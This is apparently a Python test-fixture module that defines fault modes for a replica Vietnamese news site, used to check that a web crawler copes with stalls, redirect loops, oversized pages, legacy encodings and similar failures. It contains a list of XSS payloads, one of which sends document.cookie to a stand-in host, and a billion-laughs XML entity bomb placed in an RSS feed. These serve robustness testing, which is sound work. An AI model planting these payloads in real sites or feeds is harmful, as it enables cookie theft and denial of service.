"""Opt-in fault modes of the replica: where each one is, and what a good crawler does about it.

Faults are off unless named (``ReplicaServer(faults=...)`` / ``--faults a,b``). Truth never
changes with faults: decoy URLs are not articles, and fault variants of real articles keep the
same truth record. ``GET /__replica__/faults`` returns the plan (ids and paths) as JSON, and
``site.fault_plan`` holds it in process.

Article targets are "quiet" articles: live, no trap, one category, not decomposed (NFD), in a
plain paragraph style; "the k-th" means the k-th newest quiet article of that category at build
time (so the ids depend on ``n_articles`` and ``seed``, never on which faults are on).

==================  ==========================================================  ================================
fault               where                                                       expected crawler behaviour
==================  ==========================================================  ================================
stall               ``plan.stall`` (1st of tin-hoat-dong): its FIRST request     time out (timeout < stall_seconds),
                    waits ``stall_seconds`` (default 5) before answering         retry, get 200
short-body          ``plan.short_body`` (2nd of tin-hoat-dong): first response   a truncated response is a failure,
                    declares Content-Length N, sends N/2 bytes, closes           not a record; retry, get 200
redirect-loop       decoy ``/tin-hoat-dong/...-9000001.html`` (page 1, 3rd       stop at the redirect limit; no
                    item): 302 to ``?vong=1``, which 302s back, forever          record, no hang
offsite-redirect    decoy ``/tin-hoat-dong/...-9000002.html`` (page 1): 302 to   do not follow off-site; no request
                    ``http://offsite.invalid/...``                               leaves the host; no record
huge-page           decoy ``/nghien-cuu-trao-doi/...-9000003.html`` (page 1):    abort at the download size limit;
                    200 with 30 MiB of HTML (streamed)                           no record, bounded memory
empty-200           decoy ``/van-ban/...-9000004.html`` (page 1): 200, empty     not an article: no record, no crash
cp1258              ``plan.cp1258`` (1st of dan-van-kheo): ``text/html;           decode windows-1258, NFC; record
                    charset=windows-1258`` + meta, Python's cp1258 codec         equals truth
                    (tone marks as combining characters)
malformed           ``plan.malformed`` (1st of nghien-cuu-trao-doi in p/          record equals truth
                    p-indent style): unclosed <P>, an unclosed <b>, unquoted
                    attributes, a stray </div> after the byline
listing-500         ``/guong-dien-hinh/?trang=2`` answers 500 every time          retry, give up on that page, reach
                                                                                 page 3 by the pager's numbers and
                                                                                 page 2's articles through
                                                                                 ``/rss/guong-dien-hinh.rss`` (its
                                                                                 20 items are pages 1-2)
robots-500          ``/robots.txt`` answers 500                                  RFC 9309 §2.3.1.4: assume complete
                                                                                 disallow (or stop)
robots-404          ``/robots.txt`` answers 404                                  RFC 9309 §2.3.1.3: no rules apply
rss-bomb            ``/rss/van-ban.rss`` declares a billion-laughs DOCTYPE and   never expand entities; the 20
                    references it once, in ``<copyright>`` after the items       items stay usable; no blow-up
xss                 ``plan.xss``: the 3rd of each category (5 articles); every   sanitize: no vector reaches body,
                    one of :data:`XSS_VECTORS` is planted between body blocks    body_html or images; record
                                                                                 equals truth
listing-redesign    every category listing in a new markup (``ul.article-list``,    exit "degraded" naming the
                    no ``div.news-item``); articles unchanged                    listing stage; the crawl state
                                                                                 never marks a category complete
==================  ==========================================================  ================================

"First request" is per server process and counts every URL of the article (both category
paths, ``?ref=home``); ``POST /__replica__/faults/reset`` re-arms one-shot faults and traps.
Decoys are listed only while their fault is on (otherwise their URLs answer 404).
"""
from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from dvarchive.replica.model import CATEGORIES, VIETNAM, Article, ListingEntry, slugify

FAULTS: tuple[str, ...] = (
    "stall", "short-body", "redirect-loop", "offsite-redirect", "huge-page", "cp1258", "malformed",
    "empty-200", "listing-500", "robots-500", "robots-404", "rss-bomb", "xss", "redesign", "listing-redesign",
)
EXCLUSIVE = frozenset({"robots-500", "robots-404"})
LISTING_500 = ("guong-dien-hinh", 2)
RSS_BOMB_CATEGORY = "van-ban"
OFFSITE_HOST = "offsite.invalid"
HUGE_PAGE_BYTES = 30 * 1024 * 1024
SHORT_BODY_MISSING = 4096            # bytes declared in Content-Length but never sent
DECOY_BASE_ID = 9_000_000
_EPOCH = datetime(2012, 1, 1, tzinfo=VIETNAM)    # date of a decoy in an otherwise empty listing

XSS_VECTORS: tuple[str, ...] = (
    "<script>alert('XSS')</script>",
    '<SCRIPT type="text/javascript">document.write("<img src=\\"http://xss.invalid/?c=" + document.cookie + "\\">")</SCRIPT>',
    '<img src="" onerror="alert(\'XSS\')" />',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="" />',
    '<svg onload="alert(1)"></svg>',
    '<a href="javascript:alert(\'XSS\')"></a>',
    '<a href="JaVaScRiPt:alert(1)" onmouseover="alert(2)"></a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></a>',
    '<iframe src="javascript:alert(\'XSS\')"></iframe>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<body onload="alert(\'XSS\')">',
    '<div style="width: expression(alert(\'XSS\'));"></div>',
    '<div style="background-image: url(javascript:alert(\'XSS\'))"></div>',
    '<style>@import \'javascript:alert("XSS")\';</style>',
    '<link rel="stylesheet" href="javascript:alert(\'XSS\');" />',
    '<object type="text/x-scriptlet" data="javascript:alert(\'XSS\')"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml" />',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\');" />',
    '<form action="javascript:alert(\'XSS\')"><input type="hidden" name="q" value="1" /></form>',
    '<table background="javascript:alert(\'XSS\')"><tr><td></td></tr></table>',
    '<input type="image" src="javascript:alert(\'XSS\');" />',
)
"""Planted (``xss`` fault) between body blocks; none shows any text in a browser."""


@dataclass(frozen=True, slots=True)
class Decoy:
    """A listed URL that is not an article (redirect loop, off-site redirect, huge or empty page)."""

    fault: str
    id: int
    category: str
    title: str
    position: int            # index in the category listing (page 1)

    @property
    def path(self) -> str:
        return f"/{self.category}/{slugify(self.title)}-{self.id}.html"


DECOYS: tuple[Decoy, ...] = (
    Decoy("redirect-loop", DECOY_BASE_ID + 1, "tin-hoat-dong", "Hội nghị báo cáo viên chuyên đề công tác dân vận", 2),
    Decoy("offsite-redirect", DECOY_BASE_ID + 2, "tin-hoat-dong", "Thông tin về cuộc thi tìm hiểu công tác dân vận", 4),
    Decoy("huge-page", DECOY_BASE_ID + 3, "nghien-cuu-trao-doi", "Toàn văn báo cáo chính trị trình đại hội", 1),
    Decoy("empty-200", DECOY_BASE_ID + 4, "van-ban", "Thông báo lịch tiếp công dân của Thường trực Tỉnh ủy", 3),
)
DECOY_BY_PATH: dict[str, Decoy] = {d.path: d for d in DECOYS}


@dataclass(frozen=True)
class FaultPlan:
    """Which article each article-level fault hits (None when the site is too small to have one)."""

    stall: int | None
    short_body: int | None
    cp1258: int | None
    malformed: int | None
    xss: tuple[int, ...] = field(default_factory=tuple)

    def xss_vectors_for(self, article_id: int) -> tuple[str, ...]:
        return XSS_VECTORS if article_id in self.xss else ()

    def as_json(self, enabled: frozenset[str]) -> dict[str, Any]:
        return {
            "enabled": sorted(enabled),
            "articles": {"stall": self.stall, "short-body": self.short_body, "cp1258": self.cp1258,
                         "malformed": self.malformed, "xss": list(self.xss)},
            "decoys": {d.fault: {"id": d.id, "path": d.path, "category": d.category} for d in DECOYS},
            "listing-500": f"/{LISTING_500[0]}/?trang={LISTING_500[1]}",
            "rss-bomb": f"/rss/{RSS_BOMB_CATEGORY}.rss",
        }


def _pick(articles: list[Article], category: str, styles: tuple[str, ...], index: int) -> int | None:
    """The ``index``-th newest of a category's articles in the given paragraph styles."""
    found = [a.id for a in articles if a.category == category and a.style.paragraphs in styles]
    return found[index] if len(found) > index else None


def plan_faults(articles: Sequence[Article]) -> FaultPlan:
    """Fixed for a given site: computed once at build time, before any admin mutation.

    Candidates are live, trap-free, single-category articles in undecomposed plain paragraphs,
    newest first, so each fault is the only oddity of its page.
    """
    quiet = [a for a in reversed(articles)
             if a.live and a.trap is None and a.extra_category is None and not a.style.nfd_body]
    plain = ("p", "p-indent", "div", "mso")
    xss = [_pick(quiet, c.slug, plain, 2) for c in CATEGORIES]
    return FaultPlan(
        stall=_pick(quiet, "tin-hoat-dong", plain, 0), short_body=_pick(quiet, "tin-hoat-dong", plain, 1),
        cp1258=_pick(quiet, "dan-van-kheo", plain, 0),
        malformed=_pick(quiet, "nghien-cuu-trao-doi", ("p", "p-indent"), 0),
        xss=tuple(i for i in xss if i is not None),
    )


def is_redesigned(article_id: int) -> bool:
    """Which articles the ``redesign`` fault serves in the new layout: about half of them."""
    return article_id % 2 == 0


def validate(faults: set[str] | frozenset[str]) -> frozenset[str]:
    unknown = set(faults) - set(FAULTS)
    if unknown:
        raise ValueError(f"unknown fault(s): {', '.join(sorted(unknown))} (known: {', '.join(FAULTS)})")
    if EXCLUSIVE <= set(faults):
        raise ValueError("robots-500 and robots-404 exclude each other")
    return frozenset(faults)


def with_decoys(entries: Sequence[ListingEntry], category: str,
                faults: frozenset[str]) -> Sequence[ListingEntry]:
    """The listing with the enabled faults' decoys slotted in (dated like their neighbours)."""
    decoys = sorted((d for d in DECOYS if d.category == category and d.fault in faults), key=lambda d: d.position)
    if not decoys:
        return entries
    result = list(entries)
    for decoy in decoys:
        at = min(decoy.position, len(result))
        when = result[at - 1].published - timedelta(minutes=1) if at else _EPOCH
        result.insert(at, ListingEntry(decoy.id, decoy.path, decoy.title, when, "Nội dung đang cập nhật."))
    return result


def encode_cp1258(text: str) -> bytes:
    """Encode with Python's ``cp1258`` codec the way Vietnamese Windows did.

    cp1258 has the base letters with circumflex, breve and horn (â ê ô ă ơ ư đ) but carries tone
    marks as combining characters, so 'ậ' is written 'â' + U+0323. Characters with no cp1258 form
    at all become numeric character references.
    """
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            out += _decomposed_cp1258(ch)
    return bytes(out)


_TONE_MARKS = frozenset("\u0300\u0301\u0303\u0309\u0323")


def _decomposed_cp1258(ch: str) -> bytes:
    parts = unicodedata.normalize("NFD", ch)
    base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONE_MARKS))
    tones = "".join(c for c in parts if c in _TONE_MARKS)
    try:
        return (base + tones).encode("cp1258")
    except UnicodeEncodeError:
        return f"&#{ord(ch)};".encode("ascii")


BILLION_LAUGHS_DOCTYPE = (
    "<!DOCTYPE rss [\n"
    ' <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{level} "{("&lol" + (str(level - 1) if level > 1 else "") + ";") * 10}">\n'
              for level in range(1, 10))
    + "]>\n"
)
"""The classic entity-expansion bomb: ``&lol9;`` expands to 10^9 'lol's."""
RSS_BOMB_TAIL = "<copyright>&lol9;</copyright>"
"""The bomb's only reference, after the last item: a parser that refuses to expand it (or stops
there, like libxml2's amplification guard in recover mode) has already seen every item."""


def huge_page_chunks(title: str, total: int = HUGE_PAGE_BYTES, chunk_size: int = 64 * 1024) -> Iterator[bytes]:
    """Exactly ``total`` bytes of one HTML page, produced chunk by chunk (never held whole)."""
    head = (f'<!DOCTYPE html>\n<html lang="vi"><head><meta charset="utf-8" /><title>{title}</title></head>'
            '<body><div class="news-detail"><div class="news-content" id="news-content">\n').encode("utf-8")
    tail = b"\n</div></div></body></html>"
    filler = ("<p>Báo cáo chính trị trình đại hội đại biểu Đảng bộ tỉnh nhiệm kỳ 2015 - 2020.</p>\n"
              .encode("utf-8"))
    yield head
    remaining = total - len(head) - len(tail)
    block = filler * (chunk_size // len(filler) + 1)
    while remaining > 0:
        piece = block[:min(chunk_size, remaining)]
        remaining -= len(piece)
        yield piece
    yield tail
